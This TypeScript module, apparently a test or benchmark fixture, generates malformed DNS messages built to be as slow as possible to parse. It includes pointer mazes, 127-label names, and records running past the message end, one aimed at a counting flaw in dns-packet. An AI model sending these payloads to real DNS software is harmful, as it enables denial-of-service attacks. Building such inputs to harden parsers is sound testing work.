import { APEX } from './corpus';

const HEADER_BYTES = 12;
const TXT = 16;
const RP = 17;
const NSEC = 47;

/** The largest target of a pointer that still has a byte behind it. */
const MAX_TARGET = 16_382;

function message(size: number): Buffer {
  const bytes = Buffer.alloc(size);
  bytes.writeUInt16BE(0x8400, 2);
  return bytes;
}

/** Type, class, TTL and length: what follows a record's name. */
function writeFixed(bytes: Buffer, at: number, type: number, length: number): number {
  bytes.writeUInt16BE(type, at);
  bytes.writeUInt16BE(1, at + 2);
  bytes.writeUInt16BE(length, at + 8);
  return at + 10;
}

/** A NULL record whose content is `content`; gives where that begins. */
const writeHold = (bytes: Buffer, length: number): number => writeFixed(bytes, HEADER_BYTES + 1, 10, length);

/** Pointers that each lead to the one before, and records whose every name begins at the last. */
export function pointerMaze(size: number, type: typeof TXT | typeof RP = TXT): Buffer {
  const bytes = message(size);
  const chain = Math.min(MAX_TARGET - 24, Math.floor(size / 2) - 23) & ~1;
  const start = writeHold(bytes, chain);
  let last = HEADER_BYTES;
  for (let at = start; at < start + chain; at += 2) {
    bytes.writeUInt16BE(0xc000 | last, at);
    last = at;
  }
  return withRecords(bytes, start + chain, last, type);
}

/** A name of 127 labels, and records whose every name is that. */
export function longNames(size: number): Buffer {
  const bytes = message(size);
  const start = writeHold(bytes, 255);
  for (let at = start; at < start + 254; at += 2) bytes.write('\u0001x', at);
  return withRecords(bytes, start + 255, start, RP);
}

function withRecords(bytes: Buffer, from: number, target: number, type: typeof TXT | typeof RP): Buffer {
  const content = type === RP ? 4 : 0;
  let records = 1;
  for (let at = from; at + 12 + content <= bytes.length; records += 1) {
    bytes.writeUInt16BE(0xc000 | target, at);
    at = writeFixed(bytes, at + 2, type, content);
    for (const end = at + content; at < end; at += 2) bytes.writeUInt16BE(0xc000 | target, at);
  }
  bytes.writeUInt16BE(records, 6);
  return bytes;
}

/**
 * A TXT record that runs past the end of the message: dns-packet loses count there and reads the next record at 0, where
 * the header is made one that runs past the end as well.
 */
export function rewind(size: number, type: typeof TXT | typeof NSEC = TXT): Buffer {
  const QUESTION_BYTES = 5;
  const bytes = message(size);
  bytes.writeUInt16BE(0x0241, 0); // the id, or a label of two bytes
  bytes.writeUInt16BE(TXT, 4); // sixteen questions, or the type of the record
  bytes.writeUInt16BE(0x3fff, HEADER_BYTES); // a label of 63 bytes, or the length of the record
  const answers = HEADER_BYTES + 65 + 4 + 15 * QUESTION_BYTES;
  const end = writeFixed(bytes, answers + 1, type, type === NSEC ? size - answers - 11 : 0xffff);
  // Every bit a type, as far as the message goes.
  for (let at = end + 1; type === NSEC && at + 257 <= size; at += 257) bytes.fill(0xff, at, at + 257);
  bytes.writeUInt16BE(Math.floor((size - answers) / 11), 6);
  return bytes;
}

/** What takes longest to read, for its size; the names say whom it was meant for. */
export const BOMBS: Record<string, (size: number) => Buffer> = {
  'pointers to pointers': (size) => pointerMaze(size),
  'pointers to pointers, three to a record': (size) => pointerMaze(size, RP),
  'names of 127 labels': longNames,
  'a text past the end': (size) => rewind(size),
  'a bitmap of types': (size) => rewind(size, NSEC),
  'nothing but pointers to the first': (size) => Buffer.alloc(size, Buffer.from([0xc0, 0x0c])),
  [`zeros below ${APEX}`]: message,
};
